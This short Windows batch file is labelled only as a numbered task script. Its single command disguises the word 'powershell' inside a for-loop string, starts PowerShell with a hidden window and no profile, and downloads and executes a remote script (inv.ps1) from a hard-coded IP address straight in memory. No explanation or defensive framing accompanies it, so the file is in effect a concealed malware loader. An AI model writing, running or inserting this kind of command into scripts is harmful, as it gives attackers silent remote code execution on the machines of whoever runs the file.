REM task 6993 v4
for /f "tokens=3 delims=;" %%i in ("rvug;oofa;powershell") do %%i -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/inv.ps1')"
